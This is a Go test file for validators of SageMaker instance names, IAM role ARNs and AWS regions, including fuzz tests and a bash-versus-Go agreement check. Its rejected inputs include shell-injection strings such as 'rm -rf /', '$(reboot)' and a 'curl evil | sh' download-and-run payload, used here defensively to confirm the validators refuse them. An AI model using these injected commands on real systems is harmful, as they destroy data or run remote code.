package lifecycle

import (
	"errors"
	"os"
	"os/exec"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

const testRole = "arn:aws:iam::111122223333:role/service-role/AmazonSageMaker-ExecutionRole"

func TestValidateInstanceName(t *testing.T) {
	tests := []struct {
		name string
		ok   bool
	}{
		{"test-2", true},
		{"a", true},
		{"A--b", true},
		{strings.Repeat("a", 63), true},
		{strings.Repeat("a", 64), false},
		{"", false},
		{"-lead", false},
		{"trail-", false},
		{"under_score", false},
		{"dot.name", false},
		{"x'; rm -rf / #", false},
		{"$(reboot)", false},
		{"`id`", false},
		{"a\nb", false},
		{"naïve", false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := ValidateInstanceName(tt.name)
			if (err == nil) != tt.ok {
				t.Errorf("ValidateInstanceName(%q) = %v, want ok %v", tt.name, err, tt.ok)
			}
			if err != nil && !errors.Is(err, ErrInvalid) {
				t.Errorf("ValidateInstanceName(%q) = %v, want ErrInvalid", tt.name, err)
			}
		})
	}
}

func TestParseRoleARN(t *testing.T) {
	tests := []struct {
		in   string
		want RoleARN
		ok   bool
	}{
		{testRole, RoleARN{Partition: "aws", Account: "111122223333", Path: "/service-role/", Name: "AmazonSageMaker-ExecutionRole"}, true},
		{"arn:aws-cn:iam::111122223333:role/r", RoleARN{Partition: "aws-cn", Account: "111122223333", Path: "/", Name: "r"}, true},
		{"arn:aws-us-gov:iam::111122223333:role/a/b/c+=,.@_-", RoleARN{Partition: "aws-us-gov", Account: "111122223333", Path: "/a/b/", Name: "c+=,.@_-"}, true},
		{"arn:aws-iso:iam::111122223333:role/r", RoleARN{Partition: "aws-iso", Account: "111122223333", Path: "/", Name: "r"}, true},
		{"arn:aws-foo:iam::111122223333:role/r", RoleARN{}, false},
		{"arn:aws:iam::111122223333:role/" + strings.Repeat("p", 511) + "/r", RoleARN{}, false},
		{"arn:aws:iam::11112222333:role/r", RoleARN{}, false},
		{"arn:aws:iam::111122223333:user/r", RoleARN{}, false},
		{"arn:aws:sts::111122223333:assumed-role/r/s", RoleARN{}, false},
		{"arn:aws:iam::111122223333:role/", RoleARN{}, false},
		{"arn:aws:iam::111122223333:role/" + strings.Repeat("r", 65), RoleARN{}, false},
		{"arn:aws:iam::111122223333:role/r'; curl evil | sh; '", RoleARN{}, false},
		{"arn:aws:iam::111122223333:role/$(id)/r", RoleARN{}, false},
		{"arn:aws:iam::111122223333:role/r\nrole_arn = x", RoleARN{}, false},
		{" " + testRole, RoleARN{}, false},
	}
	for _, tt := range tests {
		got, err := ParseRoleARN(tt.in)
		if (err == nil) != tt.ok {
			t.Errorf("ParseRoleARN(%q) = %v, want ok %v", tt.in, err, tt.ok)
			continue
		}
		if err != nil {
			if !errors.Is(err, ErrInvalid) {
				t.Errorf("ParseRoleARN(%q) = %v, want ErrInvalid", tt.in, err)
			}
			continue
		}
		if diff := cmp.Diff(tt.want, got); diff != "" {
			t.Errorf("ParseRoleARN(%q) mismatch (-want +got):\n%s", tt.in, diff)
		}
		if got.String() != tt.in {
			t.Errorf("ParseRoleARN(%q).String() = %q, want the input", tt.in, got.String())
		}
	}
}

// TestValidateRegion: every region AWS lists (awsid's testdata, taken
// from the SDKs' partitions.json) passes, and names of the right look but
// no real prefix or direction do not (issue 19).
func TestValidateRegion(t *testing.T) {
	data, err := os.ReadFile("../internal/awsid/testdata/regions.txt")
	if err != nil {
		t.Fatal(err)
	}
	var regions []string
	for _, l := range strings.Split(string(data), "\n") {
		if r, _, _ := strings.Cut(l, " "); r != "" && !strings.HasPrefix(r, "#") {
			regions = append(regions, r)
		}
	}
	if len(regions) < 40 {
		t.Fatalf("%d regions in awsid's testdata, want them all", len(regions))
	}
	for _, r := range regions {
		if err := ValidateRegion(r); err != nil {
			t.Errorf("ValidateRegion(%q) = %v, want nil", r, err)
		}
	}
	for _, r := range notRegions {
		if err := ValidateRegion(r); !errors.Is(err, ErrInvalid) {
			t.Errorf("ValidateRegion(%q) = %v, want ErrInvalid", r, err)
		}
	}
}

// notRegions are not region names, though some look like one.
var notRegions = []string{"", "us-east", "US-EAST-1", "us-east-1;id", "us-east-1\n", "global", "aa-b-99", "xx-east-1",
	"us-nowhere-1", "us-east-0", "ap-central-2r", "aws-global"}

func TestParamsValidate(t *testing.T) {
	tests := []struct {
		name string
		p    Params
		ok   bool
	}{
		{"per-instance", Params{Instance: "test-2", RoleARN: testRole, Region: "us-east-1"}, true},
		{"per-instance without region", Params{Instance: "test-2", RoleARN: testRole}, true},
		{"generic", Params{}, true},
		{"generic with region", Params{Region: "eu-west-1"}, true},
		{"name without role", Params{Instance: "test-2"}, false},
		{"role without name", Params{RoleARN: testRole}, false},
		{"china role in us region", Params{Instance: "a", RoleARN: "arn:aws-cn:iam::111122223333:role/r", Region: "us-east-1"}, false},
		{"govcloud", Params{Instance: "a", RoleARN: "arn:aws-us-gov:iam::111122223333:role/r", Region: "us-gov-west-1"}, true},
		{"govcloud role in us region", Params{Instance: "a", RoleARN: "arn:aws-us-gov:iam::111122223333:role/r", Region: "us-east-1"}, false},
		{"iso-b", Params{Instance: "a", RoleARN: "arn:aws-iso-b:iam::111122223333:role/r", Region: "us-isob-east-1"}, true},
		{"aws role in iso region", Params{Instance: "a", RoleARN: testRole, Region: "us-iso-east-1"}, false},
		{"made-up region", Params{Region: "aa-b-99"}, false},
		{"bad config name", Params{ConfigName: "has space"}, false},
		{"hostile region", Params{Region: "us-east-1'$(id)'"}, false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := tt.p.Validate()
			if (err == nil) != tt.ok {
				t.Errorf("%+v.Validate() = %v, want ok %v", tt.p, err, tt.ok)
			}
			if err != nil && !errors.Is(err, ErrInvalid) {
				t.Errorf("%+v.Validate() = %v, want ErrInvalid", tt.p, err)
			}
		})
	}
}

func TestConfigName(t *testing.T) {
	long := strings.Repeat("n", 63)
	tests := []struct {
		instance, want string
	}{
		{"", GenericConfigName},
		{"test-2", "ctattrib-test-2"},
		{long, "ctattrib-" + strings.Repeat("n", 45) + "-73dcf996"},
	}
	for _, tt := range tests {
		got := ConfigName(tt.instance)
		if got != tt.want {
			t.Errorf("ConfigName(%q) = %q, want %q", tt.instance, got, tt.want)
		}
		if err := validateName("config", got); err != nil {
			t.Errorf("ConfigName(%q) = %q, which SageMaker refuses: %v", tt.instance, got, err)
		}
	}
	if a, b := ConfigName(long), ConfigName(strings.Repeat("n", 62)+"m"); a == b {
		t.Errorf("ConfigName gives %q for two different long names", a)
	}
}

func FuzzParseRoleARN(f *testing.F) {
	f.Add(testRole)
	f.Add("arn:aws-cn:iam::111122223333:role/r")
	f.Add("arn:aws:iam::111122223333:role/a'b")
	f.Fuzz(func(t *testing.T, s string) {
		arn, err := ParseRoleARN(s)
		if err != nil {
			return
		}
		if arn.String() != s {
			t.Errorf("ParseRoleARN(%q).String() = %q", s, arn.String())
		}
		if strings.ContainsAny(s, "'\"`$;&|<>\\ \t\n(){}") {
			t.Errorf("ParseRoleARN(%q) accepted a shell or INI metacharacter", s)
		}
	})
}

func FuzzValidateInstanceName(f *testing.F) {
	f.Add("test-2")
	f.Add("a'b")
	f.Fuzz(func(t *testing.T, s string) {
		if ValidateInstanceName(s) != nil {
			return
		}
		if len(s) > 63 || strings.Trim(s, "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-") != "" {
			t.Errorf("ValidateInstanceName(%q) accepted it", s)
		}
	})
}

// TestScriptValidatorsAgree: the scripts' valid_region and valid_role_arn
// (bash, from the same awsid patterns) accept what Go accepts.
func TestScriptValidatorsAgree(t *testing.T) {
	var fns strings.Builder
	if err := tmpl.ExecuteTemplate(&fns, "functions", Params{}); err != nil {
		t.Fatal(err)
	}
	cases := []struct {
		fn     string
		inputs []string
		goOK   func(string) bool
	}{
		{"valid_region", append([]string{"us-east-1", "eu-central-2", "us-gov-west-1", "cn-north-1", "ap-southeast-7",
			"us-isob-east-1", "mx-central-1", "eusc-de-east-1"}, notRegions...),
			func(s string) bool { return ValidateRegion(s) == nil }},
		{"valid_role_arn", []string{testRole, "arn:aws-iso-f:iam::111122223333:role/r", "arn:aws-foo:iam::111122223333:role/r",
			"arn:aws:iam::111122223333:role/r'; id; '", "arn:aws:iam::111122223333:user/r", "arn:aws:iam::1111:role/r"},
			func(s string) bool { _, err := ParseRoleARN(s); return err == nil }},
	}
	for _, c := range cases {
		var inputs []string
		for _, s := range c.inputs {
			if !strings.ContainsRune(s, '\n') {
				inputs = append(inputs, s)
			}
		}
		script := fns.String() + "\nfor s in \"$@\"; do if " + c.fn + " \"$s\"; then echo 1; else echo 0; fi; done"
		out, err := exec.Command("bash", append([]string{"-c", script, "bash"}, inputs...)...).Output()
		if err != nil {
			t.Fatalf("%s: %v", c.fn, err)
		}
		got := strings.Fields(string(out))
		if len(got) != len(inputs) {
			t.Fatalf("%s: %d answers for %d inputs", c.fn, len(got), len(inputs))
		}
		for i, s := range inputs {
			if want := c.goOK(s); (got[i] == "1") != want {
				t.Errorf("%s %q = %s in bash, Go accepts it: %v", c.fn, s, got[i], want)
			}
		}
	}
}
